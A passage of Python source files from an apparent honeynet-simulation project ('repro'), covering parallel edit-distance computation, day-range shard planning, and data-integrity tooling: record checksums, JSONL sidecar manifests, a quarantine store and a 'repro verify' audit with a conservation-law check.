        max_workers=workers,
        mp_context=pool_context(),
        initializer=_init_pool,
        initargs=(distinct, fingerprint),
    ) as pool:
        for start, values in pool.map(_distance_chunk, spans):
            flat[start : start + len(values)] = values
    cursor = 0
    for i in range(m):
        row = flat[offsets[i] : offsets[i + 1]]
        compact[i, i + 1 :] = row
        compact[i + 1 :, i] = row
        cursor += len(row)
    return compact


def candidate_values_parallel(
    distinct: list[tuple[str, ...]],
    pairs: np.ndarray,
    workers: int,
    fingerprint: str | None = None,
) -> np.ndarray:
    """Normalized DLD for an explicit ``(k, 2)`` pair-index array.

    The sketch prefilter (:mod:`repro.analysis.sketch`) produces a
    sparse candidate set rather than the full upper triangle, so the
    pair list is shipped to the pool as one compact int32 array in the
    initializer — the per-chunk IPC stays two integers, exactly like
    the dense path.  Values come back in pair-list order.
    """
    from repro.analysis.tokenizer import DEFAULT_TOKENIZER
    from repro.parallel.engine import pool_context

    if fingerprint is None:
        fingerprint = DEFAULT_TOKENIZER.fingerprint
    total = len(pairs)
    values = np.zeros(total, dtype=np.float64)
    if total == 0:
        return values
    pairs = np.ascontiguousarray(pairs, dtype=np.int32)
    spans = chunk_spans(total, workers * CHUNKS_PER_WORKER)
    telemetry.count("parallel.dld.candidate_chunks", len(spans))
    with ProcessPoolExecutor(
        max_workers=workers,
        mp_context=pool_context(),
        initializer=_init_candidate_pool,
        initargs=(distinct, pairs, fingerprint),
    ) as pool:
        for start, chunk in pool.map(_candidate_chunk, spans):
            values[start : start + len(chunk)] = chunk
    return values
