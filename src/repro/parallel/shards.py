"""Shard planning: carve the simulated window into contiguous day ranges.

A shard is the unit of work the parallel engine hands to a worker
process.  Sharding is *purely* an execution decision: the record stream
is a function of ``(config, day)``, so any partition of the window into
contiguous shards merges back into the identical dataset.  The planner
therefore only optimises for load balance, never for correctness.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, timedelta

#: How many shards to aim for per worker.  More shards than workers
#: smooths load imbalance (busy months cost more than quiet ones) at
#: the price of slightly more per-shard bookkeeping.
SHARDS_PER_WORKER = 2


@dataclass(frozen=True)
class Shard:
    """One contiguous slice of the simulated window (inclusive dates)."""

    index: int
    start: date
    end: date

    def __post_init__(self) -> None:
        if self.start > self.end:
            raise ValueError("shard start must not be after end")

    @property
    def days(self) -> int:
        return (self.end - self.start).days + 1

    @property
    def next_day(self) -> date:
        """The first day after this shard (checkpoint cursor)."""
        return self.end + timedelta(days=1)

    @property
    def iso_span(self) -> tuple[str, str]:
        """``(start, end)`` as ISO strings — the worker task payload."""
        return (self.start.isoformat(), self.end.isoformat())


def plan_shards(
    start: date,
    end: date,
    workers: int,
    shards_per_worker: int = SHARDS_PER_WORKER,
) -> list[Shard]:
    """Partition ``[start, end]`` into balanced contiguous shards.

    Returns an empty list for an empty window (``start > end``).  Shard
    lengths differ by at most one day; together they cover the window
    exactly once, in order.
    """
    if start > end:
        return []
    if workers < 1:
        raise ValueError(f"workers must be at least 1, got {workers}")
    total_days = (end - start).days + 1
    count = max(1, min(total_days, workers * shards_per_worker))
    base, extra = divmod(total_days, count)
    shards: list[Shard] = []
    cursor = start
    for index in range(count):
        length = base + (1 if index < extra else 0)
        last = cursor + timedelta(days=length - 1)
        shards.append(Shard(index=index, start=cursor, end=last))
        cursor = last + timedelta(days=1)
    return shards
