"""The quarantine store: provenance for every record the pipeline lost.

When a lenient read (:func:`repro.honeynet.io.recover_jsonl`) hits a
line it cannot trust — invalid JSON, failed checksum, unsupported
version, a sequence number the manifest promised but no line carries —
the line is not silently dropped: it is appended to
``quarantine/quarantine.jsonl`` with its source path, line number,
reason and raw bytes (checksummed, truncated for storage).  Quarantine
counts feed the collector's conservation law, and ``repro verify``
treats a discrepancy as *explained* exactly when the store covers it.

Entries carry no timestamps: the store's content is a pure function of
the corrupt input, so recovery runs are as deterministic as the
simulation itself.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass
from pathlib import Path

from repro import telemetry
from repro.util.hashing import sha256_hex

#: Conventional directory name audits look for inside an artifact tree.
QUARANTINE_DIR_NAME = "quarantine"

#: Index file inside the quarantine directory.
QUARANTINE_INDEX = "quarantine.jsonl"

#: Raw-line bytes kept per entry (the checksum always covers the full line).
RAW_LIMIT = 2000


@dataclass(frozen=True)
class QuarantineEntry:
    """One quarantined line (or one line that never arrived)."""

    source: str  #: base name of the originating file
    path: str  #: full source path as given to the reader
    line: int | None  #: 1-based physical line number (None: missing line)
    seq: int | None  #: record sequence number, when recoverable
    reason: str  #: e.g. ``invalid-json``, ``checksum-mismatch``, ``missing-line``
    raw: str  #: offending raw line, truncated to :data:`RAW_LIMIT`
    raw_sha256: str  #: digest of the *full* raw line


class QuarantineStore:
    """Append-only JSONL store of quarantined lines under one directory."""

    def __init__(self, root: Path | str) -> None:
        self.root = Path(root)
        self.index = self.root / QUARANTINE_INDEX

    @classmethod
    def discover(cls, tree_root: Path | str) -> "QuarantineStore | None":
        """The store a tree at ``tree_root`` carries, if any."""
        root = Path(tree_root) / QUARANTINE_DIR_NAME
        store = cls(root)
        return store if store.index.exists() else None

    def add(
        self,
        *,
        path: Path | str,
        line: int | None,
        reason: str,
        raw: str,
        seq: int | None = None,
    ) -> QuarantineEntry:
        """Append one entry; returns it."""
        entry = QuarantineEntry(
            source=Path(path).name,
            path=str(path),
            line=line,
            seq=seq,
            reason=reason,
            raw=raw[:RAW_LIMIT],
            raw_sha256=sha256_hex(raw),
        )
        self.root.mkdir(parents=True, exist_ok=True)
        with open(self.index, "a", encoding="utf-8") as handle:
            handle.write(json.dumps(asdict(entry), sort_keys=True))
            handle.write("\n")
        telemetry.count("integrity.quarantined")
        telemetry.count(f"integrity.quarantined.{reason}")
        return entry

    def entries(self) -> list[QuarantineEntry]:
        """Every entry in append order (empty when no index exists)."""
        if not self.index.exists():
            return []
        loaded: list[QuarantineEntry] = []
        with open(self.index, "r", encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if not line:
                    continue
                payload = json.loads(line)
                loaded.append(QuarantineEntry(**payload))
        return loaded

    def counts_by_reason(self) -> dict[str, int]:
        counts: dict[str, int] = {}
        for entry in self.entries():
            counts[entry.reason] = counts.get(entry.reason, 0) + 1
        return counts

    def covers(
        self, source: str, *, line: int | None = None, seq: int | None = None
    ) -> bool:
        """Is the given discrepancy accounted for by some entry?

        Matches by source file name plus the physical line number and/or
        the sequence number — whichever the caller knows.
        """
        for entry in self.entries():
            if entry.source != source:
                continue
            if line is not None and entry.line == line:
                return True
            if seq is not None and entry.seq == seq:
                return True
        return False

    def __len__(self) -> int:
        return len(self.entries())
