"""Data integrity: self-verifying artifacts, quarantine, and audits.

The third leg of the robustness story (after loss faults and
deterministic parallelism): every persisted artifact carries enough
evidence — checksums, sequence numbers, sidecar manifests — to *detect*
corruption, every unrecoverable loss is *quarantined* with provenance
instead of silently dropped, and ``repro verify`` audits a whole tree
against the extended conservation law.

* :mod:`repro.integrity.checksums` — per-record and per-section content
  checksums (truncated SHA-256 over canonical JSON).
* :mod:`repro.integrity.manifest` — sidecar manifests for JSONL exports
  (line count + rolling digest).
* :mod:`repro.integrity.quarantine` — the append-only quarantine store
  with per-line provenance (path, line number, reason).
* :mod:`repro.integrity.verify` — the tree audit behind ``repro verify``.

Layering: this package sits just above :mod:`repro.util` — it must not
import :mod:`repro.config`, :mod:`repro.faults` or
:mod:`repro.honeynet` at module level (those import *us*); the verify
module reaches them lazily.
"""

from repro.integrity.checksums import (
    RECORD_CHECKSUM_KEY,
    payload_checksum,
    seal,
    section_checksum,
    verify_seal,
)
from repro.integrity.manifest import (
    MANIFEST_SUFFIX,
    Manifest,
    ManifestError,
    build_manifest,
    file_manifest,
    manifest_path,
    read_manifest,
    write_manifest,
)
from repro.integrity.quarantine import (
    QUARANTINE_DIR_NAME,
    QUARANTINE_INDEX,
    QuarantineEntry,
    QuarantineStore,
)
from repro.integrity.verify import (
    AUDIT_SCHEMA_VERSION,
    Finding,
    IntegrityAudit,
    audit_tree,
)

__all__ = [
    "AUDIT_SCHEMA_VERSION",
    "Finding",
    "IntegrityAudit",
    "MANIFEST_SUFFIX",
    "Manifest",
    "ManifestError",
    "QUARANTINE_DIR_NAME",
    "QUARANTINE_INDEX",
    "QuarantineEntry",
    "QuarantineStore",
    "RECORD_CHECKSUM_KEY",
    "audit_tree",
    "build_manifest",
    "file_manifest",
    "manifest_path",
    "payload_checksum",
    "read_manifest",
    "seal",
    "section_checksum",
    "verify_seal",
    "write_manifest",
]
