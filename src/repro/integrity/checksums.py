"""Content checksums that make persisted artifacts self-verifying.

Every serialized session record and every checkpoint section carries a
truncated SHA-256 of its canonical JSON form.  Corruption that still
parses as JSON (a flipped digit, a shuffled field) is caught by the
checksum instead of silently skewing the dataset digest.

The record checksum lives in the ``"sha"`` key of the envelope dict and
covers every *other* key, so sealing is idempotent and verification is
independent of which extra keys (``"seq"``, …) the envelope carries.
"""

from __future__ import annotations

import json
from typing import Any

from repro.util.hashing import sha256_hex

#: Envelope key holding the record checksum.
RECORD_CHECKSUM_KEY = "sha"

#: Hex digits kept from the SHA-256 — 64 bits, plenty for corruption
#: detection while keeping the per-line overhead small.
CHECKSUM_LENGTH = 16


def canonical_json(payload: Any) -> str:
    """The stable serialization every checksum is computed over."""
    return json.dumps(payload, sort_keys=True, separators=(",", ":"))


def payload_checksum(payload: dict) -> str:
    """Checksum of ``payload`` with its own ``"sha"`` key excluded."""
    body = {
        key: value
        for key, value in payload.items()
        if key != RECORD_CHECKSUM_KEY
    }
    return sha256_hex(canonical_json(body))[:CHECKSUM_LENGTH]


def seal(payload: dict) -> dict:
    """Add the content checksum to ``payload`` (in place) and return it."""
    payload[RECORD_CHECKSUM_KEY] = payload_checksum(payload)
    return payload


def verify_seal(payload: dict) -> bool:
    """True iff ``payload`` carries a checksum and it matches."""
    expected = payload.get(RECORD_CHECKSUM_KEY)
    return expected is not None and payload_checksum(payload) == expected


def section_checksum(section: Any) -> str:
    """Checksum for one checkpoint section (any JSON-serializable value)."""
    return sha256_hex(canonical_json(section))[:CHECKSUM_LENGTH]
