"""Sidecar manifests for JSONL artifacts: line count + rolling digest.

:func:`repro.honeynet.io.write_jsonl` writes ``<file>.manifest.json``
next to every export.  The manifest pins the exact byte content the
writer produced (each line terminated by ``\\n``, digested in order),
so a reader — or ``repro verify`` — can tell a pristine file from one
that was truncated, mangled, duplicated or reordered in transit without
parsing a single record.

Files without a sidecar (hand-written fixtures, foreign datasets) are
still readable; the manifest is evidence, not a gate.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable

from repro.util.fsio import atomic_write_text

#: Manifest format version.
MANIFEST_VERSION = 1

#: Appended to the data file's full name (``x.jsonl.manifest.json``).
MANIFEST_SUFFIX = ".manifest.json"


class ManifestError(ValueError):
    """Raised when a sidecar manifest exists but cannot be parsed."""


@dataclass(frozen=True)
class Manifest:
    """What the writer promised: how many lines, hashing to what."""

    lines: int
    sha256: str
    v: int = MANIFEST_VERSION


def manifest_path(data_path: Path | str) -> Path:
    """Where the sidecar for ``data_path`` lives."""
    data_path = Path(data_path)
    return data_path.with_name(data_path.name + MANIFEST_SUFFIX)


def is_manifest(path: Path | str) -> bool:
    return str(path).endswith(MANIFEST_SUFFIX)


def build_manifest(lines: Iterable[str]) -> Manifest:
    """Manifest for the given logical lines (no trailing newlines)."""
    digest = hashlib.sha256()
    count = 0
    for line in lines:
        digest.update(line.encode("utf-8"))
        digest.update(b"\n")
        count += 1
    return Manifest(lines=count, sha256=digest.hexdigest())


def file_manifest(path: Path | str) -> Manifest:
    """Manifest of the bytes actually on disk at ``path``."""
    data = Path(path).read_bytes()
    lines = data.count(b"\n")
    if data and not data.endswith(b"\n"):
        lines += 1  # truncated final line still occupies a line slot
    return Manifest(lines=lines, sha256=hashlib.sha256(data).hexdigest())


def write_manifest(data_path: Path | str, manifest: Manifest) -> Path:
    """Atomically write the sidecar for ``data_path``; returns its path."""
    sidecar = manifest_path(data_path)
    document = {"v": manifest.v, "lines": manifest.lines, "sha256": manifest.sha256}
    atomic_write_text(sidecar, json.dumps(document, sort_keys=True) + "\n")
    return sidecar


def read_manifest(data_path: Path | str) -> Manifest | None:
    """Load the sidecar for ``data_path``.

    Returns ``None`` when no sidecar exists; raises
    :class:`ManifestError` when one exists but is unreadable — callers
    decide whether that is fatal (strict reads) or merely noted
    (recovery and audits).
    """
    sidecar = manifest_path(data_path)
    try:
        raw = sidecar.read_text(encoding="utf-8")
    except FileNotFoundError:
        return None
    except OSError as error:
        raise ManifestError(f"unreadable manifest {sidecar}: {error}") from error
    try:
        document = json.loads(raw)
        return Manifest(
            lines=int(document["lines"]),
            sha256=str(document["sha256"]),
            v=int(document["v"]),
        )
    except (json.JSONDecodeError, KeyError, TypeError, ValueError) as error:
        raise ManifestError(f"malformed manifest {sidecar}: {error}") from error
