"""``repro verify``: audit an artifact tree's integrity end to end.

Walks a dataset/checkpoint tree and checks every artifact against its
own evidence: sidecar manifests and per-line checksums for JSONL
exports, section and record checksums for checkpoint generations, and
the quarantine store's provenance entries.  The audit's contract is the
conservation law extended to disk: every discrepancy must either be
*recoverable* (duplicated or reordered lines the sequence numbers
repair, a corrupt checkpoint generation with a valid older one) or
*explained* (quarantined with provenance).  Anything else is an
unexplained discrepancy and fails the audit — ``repro verify`` exits
non-zero.

Import note: :mod:`repro.honeynet.io` and :mod:`repro.faults.checkpoint`
are imported lazily inside the audit functions — both import this
package's siblings at module level.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from pathlib import Path

from repro import telemetry
from repro.integrity.manifest import ManifestError, is_manifest, manifest_path
from repro.integrity.quarantine import (
    QUARANTINE_DIR_NAME,
    QuarantineEntry,
    QuarantineStore,
)

#: Trailing generation suffix of rotated checkpoint files (``.1``, ``.2``).
_GENERATION_SUFFIX = re.compile(r"\.(\d+)$")

#: Version of the audit report schema (``repro verify --json``).  Bumped
#: whenever the JSON shape changes incompatibly, so downstream tooling
#: can evolve against a stable field instead of sniffing keys.
#: Version 2 added ``schema_version`` itself and index findings.
AUDIT_SCHEMA_VERSION = 2


@dataclass(frozen=True)
class Finding:
    """One audited artifact and its verdict."""

    path: str  #: relative to the audit root
    kind: str  #: ``dataset`` | ``checkpoint`` | ``quarantine`` | ``index`` | ``temp``
    #: ``ok`` — pristine; ``recovered`` — damaged but losslessly
    #: repairable; ``quarantined`` — lossy but fully accounted for;
    #: ``failed`` — unexplained discrepancy.
    status: str
    detail: str

    @property
    def explained(self) -> bool:
        return self.status != "failed"


@dataclass
class IntegrityAudit:
    """The outcome of one tree walk."""

    root: str
    findings: list[Finding] = field(default_factory=list)
    quarantine_entries: int = 0
    records_verified: int = 0
    records_lost: int = 0
    #: Records the admission gate shed, summed over the newest valid
    #: generation of every checkpoint group (an *explained* loss:
    #: shedding is accounted, like outage gaps, not damage).
    records_shed: int = 0

    @property
    def ok(self) -> bool:
        return all(finding.explained for finding in self.findings)

    @property
    def index_damaged(self) -> bool:
        """True when any index artifact failed its audit."""
        return any(
            f.kind == "index" and not f.explained for f in self.findings
        )

    @property
    def data_ok(self) -> bool:
        """True when everything *except* index artifacts is explained.

        An audit with ``data_ok and index_damaged`` found only derived
        damage: the ground truth is intact, consumers degrade to the
        scan path, and ``--rebuild-index`` restores a clean audit.
        """
        return all(
            f.explained for f in self.findings if f.kind != "index"
        )

    def unexplained(self) -> list[Finding]:
        return [f for f in self.findings if not f.explained]

    def render(self) -> str:
        """Human-readable audit report."""
        lines = [f"integrity audit of {self.root}"]
        marks = {"ok": "✓", "recovered": "~", "quarantined": "!", "failed": "✗"}
        for finding in self.findings:
            mark = marks.get(finding.status, "?")
            lines.append(
                f"  {mark} [{finding.kind}] {finding.path}: {finding.detail}"
            )
        if not self.findings:
            lines.append("  (no auditable artifacts found)")
        lines.append(
            f"{len(self.findings)} artifacts, "
            f"{self.records_verified} records verified, "
            f"{self.records_lost} lost (quarantine holds "
            f"{self.quarantine_entries} entries)"
        )
        if self.records_shed:
            lines.append(
                f"{self.records_shed} records shed by admission control "
                "(accounted degraded-mode loss, not damage)"
            )
        lines.append("PASS" if self.ok else
                     f"FAIL: {len(self.unexplained())} unexplained discrepancies")
        return "\n".join(lines)

    def to_json(self) -> str:
        return json.dumps(
            {
                "schema_version": AUDIT_SCHEMA_VERSION,
                "root": self.root,
                "ok": self.ok,
                "index_damaged": self.index_damaged,
                "records_verified": self.records_verified,
                "records_lost": self.records_lost,
                "records_shed": self.records_shed,
                "quarantine_entries": self.quarantine_entries,
                "findings": [
                    {
                        "path": f.path,
                        "kind": f.kind,
                        "status": f.status,
                        "detail": f.detail,
                    }
                    for f in self.findings
                ],
            },
            indent=2,
            sort_keys=True,
        )


def _checkpoint_base(path: Path) -> Path | None:
    """The generation-group base for a checkpoint file, if it is one."""
    name = path.name
    match = _GENERATION_SUFFIX.search(name)
    stem = name[: match.start()] if match else name
    if ".ckpt" in stem or stem.startswith("ckpt"):
        return path.with_name(stem)
    return None


def _generation_rank(path: Path) -> int:
    match = _GENERATION_SUFFIX.search(path.name)
    return int(match.group(1)) if match else 0


def audit_tree(
    root: Path | str,
    quarantine: Path | str | QuarantineStore | None = None,
) -> IntegrityAudit:
    """Audit every artifact under ``root`` (a directory or one file).

    ``quarantine`` overrides store discovery (default: the
    ``quarantine/`` directory under ``root``, when present).
    """
    root = Path(root)
    base = root if root.is_dir() else root.parent
    if isinstance(quarantine, QuarantineStore):
        store = quarantine
    elif quarantine is not None:
        store = QuarantineStore(quarantine)
    else:
        store = QuarantineStore.discover(base)

    audit = IntegrityAudit(root=str(root))
    files = sorted(p for p in root.rglob("*") if p.is_file()) if root.is_dir() else [root]

    checkpoint_groups: dict[Path, list[Path]] = {}
    for path in files:
        relative = str(path.relative_to(base))
        if QUARANTINE_DIR_NAME in path.relative_to(base).parts[:-1]:
            continue  # the store is audited separately below
        if path.name.endswith(".tmp"):
            audit.findings.append(
                Finding(
                    path=relative,
                    kind="temp",
                    status="recovered",
                    detail="leftover temp file (interrupted atomic write; "
                    "the primary artifact is unaffected)",
                )
            )
            continue
        if is_manifest(path):
            data_file = path.with_name(path.name[: -len(".manifest.json")])
            if not data_file.exists():
                audit.findings.append(
                    Finding(
                        path=relative,
                        kind="dataset",
                        status="failed",
                        detail="manifest without a data file",
                    )
                )
            continue
        checkpoint_base = _checkpoint_base(path)
        if checkpoint_base is not None:
            checkpoint_groups.setdefault(checkpoint_base, []).append(path)
            continue
        if path.suffix == ".jsonl":
            _audit_jsonl(path, relative, store, audit)
            continue
        if path.suffix == ".sqlite":
            _audit_index(path, relative, audit)

    for checkpoint_base, members in sorted(checkpoint_groups.items()):
        _audit_checkpoint_group(checkpoint_base, members, base, audit)

    if store is not None:
        _audit_quarantine(store, base, audit)

    telemetry.count("integrity.verify.runs")
    telemetry.count("integrity.verify.artifacts", len(audit.findings))
    if not audit.ok:
        telemetry.count("integrity.verify.failures")
    return audit


def _audit_jsonl(
    path: Path,
    relative: str,
    store: QuarantineStore | None,
    audit: IntegrityAudit,
) -> None:
    from repro.honeynet.io import recover_jsonl

    try:
        recovered = recover_jsonl(path)  # scan-only: no store writes
    except OSError as error:
        audit.findings.append(
            Finding(relative, "dataset", "failed", f"unreadable: {error}")
        )
        return
    report = recovered.report
    audit.records_verified += report.recovered
    audit.records_lost += report.lost

    manifest_problem = False
    if manifest_path(path).exists() and report.manifest_lines is None:
        try:
            from repro.integrity.manifest import read_manifest

            read_manifest(path)
        except ManifestError:
            manifest_problem = True

    pristine = (
        not report.lost
        and not report.duplicates
        and not report.reordered
        and report.manifest_match is not False
        and not manifest_problem
    )
    if pristine:
        suffix = (
            "verified against manifest"
            if report.manifest_lines is not None
            else "parsed clean (no manifest)"
        )
        audit.findings.append(
            Finding(
                relative, "dataset", "ok", f"{report.recovered} records, {suffix}"
            )
        )
        return
    if manifest_problem:
        status = "recovered" if report.lost == 0 else "failed"
        audit.findings.append(
            Finding(
                relative,
                "dataset",
                status,
                f"manifest unreadable; data file {'parsed clean' if status == 'recovered' else 'is also damaged'}",
            )
        )
        return
    if (
        report.manifest_lines is not None
        and report.recovered > report.manifest_lines
    ):
        # More records than the writer ever produced: an insertion, not
        # damage — nothing in the fault model creates records, so this
        # is never recoverable or quarantinable.
        audit.findings.append(
            Finding(
                relative,
                "dataset",
                "failed",
                f"{report.recovered} records recovered but the manifest "
                f"promises only {report.manifest_lines} — "
                "unexplained extra records",
            )
        )
        return
    if report.lost == 0:
        audit.findings.append(
            Finding(
                relative,
                "dataset",
                "recovered",
                f"{report.recovered} records recovered losslessly "
                f"({report.duplicates} duplicates dropped, "
                f"{report.reordered} lines re-ordered)",
            )
        )
        return
    covered = store is not None and all(
        store.covers(path.name, line=line) for line, _ in report.bad_lines
    ) and all(
        store.covers(path.name, seq=seq) for seq in report.missing_seqs
    )
    if covered:
        audit.findings.append(
            Finding(
                relative,
                "dataset",
                "quarantined",
                f"{report.recovered} records recovered; {report.lost} lost "
                f"({report.quarantined} corrupt lines, {report.missing} "
                "missing) — all quarantined with provenance",
            )
        )
    else:
        audit.findings.append(
            Finding(
                relative,
                "dataset",
                "failed",
                f"{report.lost} records lost without quarantine coverage "
                f"({report.quarantined} corrupt lines, "
                f"{report.missing} missing)",
            )
        )


def _audit_index(path: Path, relative: str, audit: IntegrityAudit) -> None:
    """Cross-check an ``index.sqlite`` against its shard ground truth.

    The index is derived data, so a failed index finding never means
    data loss — it means the accelerator is unusable or lying.  Verdicts:

    * ``ok`` — every index row matches a recovered shard record (id and
      content hash), nothing is missing, and the stored meta agrees;
    * ``quarantined`` — the index holds rows for records its shards
      demonstrably *lost* (the index, like the manifest, records what
      the writer meant — shard damage is the explained discrepancy);
    * ``failed`` — the index is unopenable, desynced (rows missing or
      mismatched), carries foreign rows, or self-inconsistent meta.
      Repairable with ``repro verify --rebuild-index``; until then,
      consumers answer via the shard-scan fallback.
    """
    # Lazy: repro.store composes analysis/honeynet, which sit above us.
    from repro.honeynet.io import recover_jsonl
    from repro.store.base import index_rows
    from repro.store.builder import shard_paths
    from repro.store.sqlite import SqliteStore, StoreError

    repair_hint = (
        "consumers fall back to shard scan; repair with --rebuild-index"
    )
    try:
        store = SqliteStore.open(path)
    except StoreError as error:
        audit.findings.append(
            Finding(
                relative,
                "index",
                "failed",
                f"unusable index ({error.reason}) — {repair_hint}",
            )
        )
        return
    try:
        actual = {row.session_id: row for row in store.rows()}
        meta = store.meta()
    except StoreError as error:
        audit.findings.append(
            Finding(
                relative,
                "index",
                "failed",
                f"index unreadable mid-audit ({error.reason}) — {repair_hint}",
            )
        )
        return
    finally:
        store.close()

    expected: dict[str, object] = {}
    lost = 0
    seen: set[str] = set()
    records = []
    for shard in shard_paths(path.parent):
        recovered = recover_jsonl(shard)  # scan-only: no store writes
        lost += recovered.report.lost
        fresh = [r for r in recovered.records if r.session_id not in seen]
        seen.update(r.session_id for r in fresh)
        records.extend(fresh)
        for row in index_rows(fresh, source=shard.name):
            expected[row.session_id] = row

    missing = len(expected.keys() - actual.keys())
    extra = len(actual.keys() - expected.keys())
    mismatched = sum(
        1
        for session_id in expected.keys() & actual.keys()
        if expected[session_id].session_hash != actual[session_id].session_hash
    )
    if missing or mismatched:
        audit.findings.append(
            Finding(
                relative,
                "index",
                "failed",
                f"index desynced from shards ({missing} rows missing, "
                f"{mismatched} content-mismatched of {len(expected)} "
                f"expected) — {repair_hint}",
            )
        )
        return
    if extra:
        if extra <= lost:
            audit.findings.append(
                Finding(
                    relative,
                    "index",
                    "quarantined",
                    f"{extra} index rows outlive records the shards lost "
                    f"({lost} lost) — the index records what the writer "
                    "meant; shard damage is accounted separately",
                )
            )
            return
        audit.findings.append(
            Finding(
                relative,
                "index",
                "failed",
                f"{extra} foreign index rows with no shard record and "
                f"only {lost} shard losses to explain them — {repair_hint}",
            )
        )
        return
    if meta.record_count != len(actual):
        audit.findings.append(
            Finding(
                relative,
                "index",
                "failed",
                f"store_meta promises {meta.record_count} rows but the "
                f"index holds {len(actual)} — {repair_hint}",
            )
        )
        return
    if lost == 0 and meta.content_digest:
        from repro.store.base import content_digest

        if meta.content_digest != content_digest(records):
            audit.findings.append(
                Finding(
                    relative,
                    "index",
                    "failed",
                    "index content digest does not match the shard "
                    f"ground truth (stale or foreign index) — {repair_hint}",
                )
            )
            return
    audit.findings.append(
        Finding(
            relative,
            "index",
            "ok",
            f"{len(actual)} rows cross-checked against shard ground truth",
        )
    )


def _conservation_imbalance(counters: dict[str, int]) -> str | None:
    """Check the collection conservation law over checkpoint counters.

    Every record offered to the collection boundary must sit in exactly
    one terminal bucket, shed included:

        generated == stored + dropped_outage + dropped_sensor_down
                     + dead_lettered + deduplicated + quarantined + shed

    Returns a description of the imbalance, or ``None`` when the books
    balance.  A checkpoint that passes its checksums but fails this is
    an unexplained discrepancy — bytes intact, accounting broken.
    """
    generated = counters.get("generated", 0)
    accounted = (
        counters.get("stored", 0)
        + counters.get("dropped_outage", 0)
        + counters.get("dropped_sensor_down", 0)
        + counters.get("dead_lettered", 0)
        + counters.get("deduplicated", 0)
        + counters.get("quarantined", 0)
        + counters.get("shed", 0)
    )
    if generated == accounted:
        return None
    return (
        f"generated {generated} != {accounted} accounted "
        f"(stored + dropped + dead-lettered + deduplicated + "
        f"quarantined + shed)"
    )


def _audit_checkpoint_group(
    checkpoint_base: Path, members: list[Path], base: Path, audit: IntegrityAudit
) -> None:
    from repro.faults.checkpoint import audit_checkpoint, read_checkpoint_counters

    members = sorted(members, key=_generation_rank)
    problems = {member: audit_checkpoint(member) for member in members}
    newest_valid = next(
        (member for member in members if problems[member] is None), None
    )
    for member in members:
        relative = str(member.relative_to(base))
        problem = problems[member]
        if problem is None:
            imbalance = None
            if member == newest_valid:
                counters = read_checkpoint_counters(member)
                if counters is not None:
                    imbalance = _conservation_imbalance(counters)
                    if imbalance is None:
                        audit.records_shed += counters.get("shed", 0)
            if imbalance is not None:
                audit.findings.append(
                    Finding(
                        relative,
                        "checkpoint",
                        "failed",
                        "all checksums verified but the accounting does "
                        f"not balance: {imbalance}",
                    )
                )
                continue
            audit.findings.append(
                Finding(relative, "checkpoint", "ok", "all checksums verified")
            )
        elif newest_valid is not None:
            audit.findings.append(
                Finding(
                    relative,
                    "checkpoint",
                    "recovered",
                    f"corrupt generation ({problem}); resume covered by "
                    f"{newest_valid.name}",
                )
            )
        else:
            audit.findings.append(
                Finding(
                    relative,
                    "checkpoint",
                    "failed",
                    f"corrupt with no valid generation to fall back to "
                    f"({problem})",
                )
            )


def _audit_quarantine(
    store: QuarantineStore, base: Path, audit: IntegrityAudit
) -> None:
    try:
        relative = str(store.index.relative_to(base))
    except ValueError:
        relative = str(store.index)
    if not store.index.exists():
        return
    try:
        entries: list[QuarantineEntry] = store.entries()
    except (json.JSONDecodeError, TypeError, ValueError) as error:
        audit.findings.append(
            Finding(
                relative, "quarantine", "failed", f"corrupt index: {error}"
            )
        )
        return
    audit.quarantine_entries = len(entries)
    reasons = store.counts_by_reason()
    summary = ", ".join(
        f"{count}× {reason}" for reason, count in sorted(reasons.items())
    ) or "empty"
    audit.findings.append(
        Finding(relative, "quarantine", "ok", f"{len(entries)} entries ({summary})")
    )
