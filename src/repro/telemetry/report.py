"""Render a registry as ``telemetry.json`` and a markdown run report.

The JSON document is the machine artifact (one per instrumented run);
the markdown report is the human view the ``repro telemetry``
subcommand prints.  Neither feeds back into the pipeline: deleting a
telemetry file changes nothing about the dataset it described.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from repro.util.text import format_table

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.telemetry.metrics import MetricsRegistry

#: Format version stamped into every telemetry document.
TELEMETRY_VERSION = 1


def telemetry_document(
    registry: "MetricsRegistry", meta: dict | None = None
) -> dict:
    """The full JSON-able telemetry document for one run."""
    return {"version": TELEMETRY_VERSION, "meta": dict(meta or {}), **registry.export()}


def write_telemetry_json(path, registry: "MetricsRegistry", meta=None) -> None:
    """Write :func:`telemetry_document` to ``path`` (pretty-printed)."""
    document = telemetry_document(registry, meta)
    with open(path, "w") as handle:
        json.dump(document, handle, indent=2, sort_keys=True)
        handle.write("\n")


def _mode_timeline_rows(counters: dict) -> list[list]:
    """Degraded-mode ladder transitions recovered from counter names.

    The stream supervisor writes one
    ``stream.mode.timeline.<day ordinal>.<from>-><to>.<reason>`` counter
    per ladder transition (modes and reasons are dash-slugs, never
    dotted), so the full timeline reconstructs from the registry alone —
    no side-channel file to lose.
    """
    from datetime import date

    prefix = "stream.mode.timeline."
    rows = []
    for name, value in counters.items():
        if not name.startswith(prefix):
            continue
        try:
            ordinal, transition, reason = name[len(prefix):].split(".")
            day = date.fromordinal(int(ordinal)).isoformat()
        except ValueError:
            continue  # malformed external document; skip, don't crash
        rows.append([day, int(ordinal), transition, reason, value])
    rows.sort(key=lambda row: (row[1], row[2], row[3]))
    return [[day, transition, reason, value]
            for day, _, transition, reason, value in rows]


def _histogram_sketch(data: dict) -> str:
    """A compact one-line rendering of a histogram's occupied buckets."""
    bounds = data["bounds"]
    labels = [f"<={bound:g}" for bound in bounds] + [f">{bounds[-1]:g}"]
    occupied = [
        f"{label}:{count}"
        for label, count in zip(labels, data["counts"])
        if count
    ]
    return " ".join(occupied) if occupied else "(empty)"


def run_report_markdown(document: dict) -> str:
    """Render one telemetry document as a markdown run report."""
    parts: list[str] = ["# Telemetry run report", ""]
    meta = document.get("meta", {})
    if meta:
        parts.append("## Run")
        parts.append("")
        parts.append(
            format_table(
                ["key", "value"],
                [[key, meta[key]] for key in sorted(meta)],
            )
        )
        parts.append("")

    counters = document.get("counters", {})
    parts.append("## Counters")
    parts.append("")
    if counters:
        parts.append(
